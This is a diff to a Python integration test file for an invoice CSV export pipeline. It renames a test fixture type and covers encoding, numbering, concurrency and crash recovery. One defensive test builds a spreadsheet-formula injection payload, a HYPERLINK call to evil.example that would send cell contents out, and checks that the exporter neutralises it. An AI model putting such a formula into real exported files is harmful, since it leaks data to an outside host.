@@ -32,32 +32,32 @@ from invoice_pipelines.intake.received_invoices import ProcessingError, ask_for_
 from invoice_pipelines.intake.stages import stages
 from invoice_pipelines.storage import StorageError, write_file_atomically
 from invoice_pipelines_tests.conftest import PROJECT
-from invoice_pipelines_tests.integration.intake.conftest import Desk, make_reading
+from invoice_pipelines_tests.integration.intake.conftest import IntakeDesk, make_reading
 from invoice_pipelines_tests.support.programs import run
 from invoice_pipelines_tests.support.sizes import example_count
 
 TEXT_COLUMNS = ("invoice_number", "seller_name", "buyer_reference")
 
 
-def choose(desk: Desk, *ids: UUID) -> UUID | None:
+def choose(desk: IntakeDesk, *ids: UUID) -> UUID | None:
     with desk.scope() as connection:
         return choose_validated(connection, "CSV", ids, "test")
 
 
-def complete(desk: Desk) -> list[Export]:
+def complete(desk: IntakeDesk) -> list[Export]:
     return complete_exports(desk.engine, desk.organization_id, desk.slug, desk.exports)
 
 
-def content(desk: Desk, path: str) -> bytes:
+def content(desk: IntakeDesk, path: str) -> bytes:
     return (desk.folder / "exports" / path).read_bytes()
 
 
-def table(desk: Desk, export: Export, kind: str = "invoices") -> list[dict[str, str]]:
+def table(desk: IntakeDesk, export: Export, kind: str = "invoices") -> list[dict[str, str]]:
     (file,) = (file for file in export.files if file.path.endswith(f"_{kind}.csv"))
     return list(csv.DictReader(io.StringIO(content(desk, file.path).decode(), newline="")))
 
 
-def invoices_in_files(desk: Desk) -> list[str]:
+def invoices_in_files(desk: IntakeDesk) -> list[str]:
     """Invoice ids of all invoice files that lie there, in completed exports or not."""
     return sorted(
         row["invoice_record_id"]
@@ -66,7 +66,7 @@ def invoices_in_files(desk: Desk) -> list[str]:
     )
 
 
-def test_the_files_hold_what_was_received_as_csv_and_pandas_read_it(desk: Desk) -> None:
+def test_the_files_hold_what_was_received_as_csv_and_pandas_read_it(desk: IntakeDesk) -> None:
     reading = make_reading(
         'R "1", line\r\none',
         seller=Party(name="Müller & Söhne; 株式会社 💡", vat_id="DE136695976"),
@@ -113,7 +113,7 @@ def test_the_files_hold_what_was_received_as_csv_and_pandas_read_it(desk: Desk) 
         assert file.sha256 == hashlib.sha256(content(desk, file.path)).hexdigest()
 
 
-def test_a_file_is_utf_8_with_carriage_return_line_feed_and_a_heading(desk: Desk) -> None:
+def test_a_file_is_utf_8_with_carriage_return_line_feed_and_a_heading(desk: IntakeDesk) -> None:
     choose(desk, desk.validated().id)
     (export,) = complete(desk)
     for file, columns in zip(export.files, (INVOICE_COLUMNS, LINE_COLUMNS), strict=True):
@@ -125,7 +125,7 @@ def test_a_file_is_utf_8_with_carriage_return_line_feed_and_a_heading(desk: Desk
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_no_text_cell_is_a_formula_for_a_spreadsheet(desk: Desk, start: str) -> None:
+def test_no_text_cell_is_a_formula_for_a_spreadsheet(desk: IntakeDesk, start: str) -> None:
     evil = f'{start}HYPERLINK("https://evil.example/?"&A1)'
     reading = make_reading(
         evil,
@@ -154,7 +154,7 @@ def test_no_text_cell_is_a_formula_for_a_spreadsheet(desk: Desk, start: str) -> 
         assert row["net_amount"] == ("-100.00" if kind == "invoices" else "-1.50")
 
 
-def test_file_names_are_plain_and_say_whose_and_which(desk: Desk) -> None:
+def test_file_names_are_plain_and_say_whose_and_which(desk: IntakeDesk) -> None:
     choose(desk, desk.validated().id)
     (export,) = complete(desk)
     for file in export.files:
@@ -163,7 +163,7 @@ def test_file_names_are_plain_and_say_whose_and_which(desk: Desk) -> None:
     assert on_disk == {file.path for file in export.files}
 
 
-def test_the_export_is_recorded_with_its_invoices_and_files(desk: Desk) -> None:
+def test_the_export_is_recorded_with_its_invoices_and_files(desk: IntakeDesk) -> None:
     invoices = [desk.validated() for _ in range(3)]
     choose(desk, *(invoice.id for invoice in invoices))
     (export,) = complete(desk)
@@ -183,7 +183,7 @@ def test_the_export_is_recorded_with_its_invoices_and_files(desk: Desk) -> None:
     assert {desk.status(invoice.id) for invoice in invoices} == {"EXPORTED"}
 
 
-def test_an_invoice_that_is_not_validated_is_not_chosen(desk: Desk) -> None:
+def test_an_invoice_that_is_not_validated_is_not_chosen(desk: IntakeDesk) -> None:
     uploaded, parsed, validated = desk.invoice(), desk.parsed(), desk.validated()
     assert choose(desk, uploaded.id, parsed.id) is None
     assert choose(desk) is None
@@ -193,7 +193,7 @@ def test_an_invoice_that_is_not_validated_is_not_chosen(desk: Desk) -> None:
     assert desk.one("select count(*) from intake.export") == 1
 
 
-def test_an_invoice_in_a_pending_export_is_not_chosen_again(desk: Desk) -> None:
+def test_an_invoice_in_a_pending_export_is_not_chosen_again(desk: IntakeDesk) -> None:
     first, second = desk.validated(), desk.validated()
     assert choose(desk, first.id) is not None
     assert choose(desk, first.id) is None
@@ -202,7 +202,7 @@ def test_an_invoice_in_a_pending_export_is_not_chosen_again(desk: Desk) -> None:
     assert invoices_in_files(desk) == sorted([str(first.id), str(second.id)])
 
 
-def test_an_invoice_is_exported_again_only_when_asked_for(desk: Desk) -> None:
+def test_an_invoice_is_exported_again_only_when_asked_for(desk: IntakeDesk) -> None:
     invoice = desk.validated()
     choose(desk, invoice.id)
     complete(desk)
@@ -218,7 +218,7 @@ def test_an_invoice_is_exported_again_only_when_asked_for(desk: Desk) -> None:
 
 
 def test_numbers_count_up_without_gaps_for_each_organization_also_after_a_rollback(
-    desk: Desk, other_desk: Desk
+    desk: IntakeDesk, other_desk: IntakeDesk
 ) -> None:
     for number in range(1, 4):
         invoice = desk.validated()
@@ -231,7 +231,7 @@ def test_numbers_count_up_without_gaps_for_each_organization_also_after_a_rollba
     assert [export.number for export in complete(other_desk)] == [1, 2, 3]
 
 
-def test_two_that_choose_the_same_invoices_at_once_make_one_export_of_them(desk: Desk) -> None:
+def test_two_that_choose_the_same_invoices_at_once_make_one_export_of_them(desk: IntakeDesk) -> None:
     for round_number in range(1, 6):
         ids = [desk.validated().id for _ in range(5)]
         barrier = threading.Barrier(3)
@@ -248,7 +248,7 @@ def test_two_that_choose_the_same_invoices_at_once_make_one_export_of_them(desk:
     assert counts == {5}
 
 
-def test_two_that_complete_at_once_complete_each_export_once(desk: Desk) -> None:
+def test_two_that_complete_at_once_complete_each_export_once(desk: IntakeDesk) -> None:
     ids = [desk.validated().id for _ in range(12)]
     for invoice_id in ids:
         choose(desk, invoice_id)
@@ -292,7 +292,7 @@ export_files.complete_exports(create_app_engine(url), UUID(organization), slug, 
 
 
 @pytest.mark.parametrize("moment", ["before the files", "between the files", "before the commit"])
-def test_after_a_kill_the_next_run_completes_the_export_under_the_same_names(desk: Desk, moment: str) -> None:
+def test_after_a_kill_the_next_run_completes_the_export_under_the_same_names(desk: IntakeDesk, moment: str) -> None:
     invoice = desk.validated()
     export_id = choose(desk, invoice.id)
     where = [desk.engine.url.render_as_string(hide_password=False), desk.organization_id, desk.slug, desk.exports]
@@ -310,7 +310,7 @@ def test_after_a_kill_the_next_run_completes_the_export_under_the_same_names(des
     assert stages.export_invoices(desk.intake()).exports == ()
 
 
-def test_an_invoice_that_failed_after_it_was_chosen_is_not_in_the_export(desk: Desk) -> None:
+def test_an_invoice_that_failed_after_it_was_chosen_is_not_in_the_export(desk: IntakeDesk) -> None:
     stays, fails = desk.validated(), desk.validated()
     choose(desk, stays.id, fails.id)
     with desk.scope() as connection:
@@ -323,7 +323,7 @@ def test_an_invoice_that_failed_after_it_was_chosen_is_not_in_the_export(desk: D
     assert [row[0] for row in desk.rows("select received_invoice_id from intake.export_invoice")] == [stays.id]
 
 
-def test_a_completed_export_keeps_its_invoices(desk: Desk) -> None:
+def test_a_completed_export_keeps_its_invoices(desk: IntakeDesk) -> None:
     choose(desk, desk.validated().id)
     complete(desk)
     with desk.scope() as connection:
@@ -331,7 +331,7 @@ def test_a_completed_export_keeps_its_invoices(desk: Desk) -> None:
     assert desk.one("select count(*) from intake.export_invoice") == 1
 
 
-def test_an_exported_invoice_stands_in_a_completed_export(desk: Desk) -> None:
+def test_an_exported_invoice_stands_in_a_completed_export(desk: IntakeDesk) -> None:
     invoice = desk.validated()
     choose(desk, invoice.id)
     complete(desk)
@@ -359,7 +359,7 @@ except StorageError as error:
 """
 
 
-def test_on_a_full_disk_the_export_stays_pending_and_the_error_names_the_file(desk: Desk) -> None:
+def test_on_a_full_disk_the_export_stays_pending_and_the_error_names_the_file(desk: IntakeDesk) -> None:
     invoice = desk.validated(make_reading(lines=make_reading().lines * 50))
     choose(desk, invoice.id)
     where = [desk.engine.url.render_as_string(hide_password=False), str(desk.organization_id), desk.slug]
@@ -377,7 +377,7 @@ def test_on_a_full_disk_the_export_stays_pending_and_the_error_names_the_file(de
     assert (export.number, export.invoice_count) == (1, 1)
 
 
-def test_an_unwritable_place_is_an_error_that_names_the_file_and_loses_nothing(desk: Desk) -> None:
+def test_an_unwritable_place_is_an_error_that_names_the_file_and_loses_nothing(desk: IntakeDesk) -> None:
     invoice = desk.validated()
     choose(desk, invoice.id)
     (desk.folder / "exports").write_bytes(b"a file where a folder should be")
@@ -388,7 +388,7 @@ def test_an_unwritable_place_is_an_error_that_names_the_file_and_loses_nothing(d
     assert len(complete(desk)) == 1
 
 
-def test_a_half_written_file_of_an_export_is_replaced_by_the_whole_one(desk: Desk) -> None:
+def test_a_half_written_file_of_an_export_is_replaced_by_the_whole_one(desk: IntakeDesk) -> None:
     choose(desk, desk.validated().id)
     (export,) = complete(desk)
     whole = content(desk, export.files[0].path)
@@ -404,7 +404,7 @@ def test_a_half_written_file_of_an_export_is_replaced_by_the_whole_one(desk: Des
     assert content(desk, again.files[0].path) == whole
 
 
-def test_an_export_of_one_organization_is_none_of_anothers_business(desk: Desk, other_desk: Desk) -> None:
+def test_an_export_of_one_organization_is_none_of_anothers_business(desk: IntakeDesk, other_desk: IntakeDesk) -> None:
     mine = desk.validated()
     assert choose(other_desk, mine.id) is None
     choose(desk, mine.id)
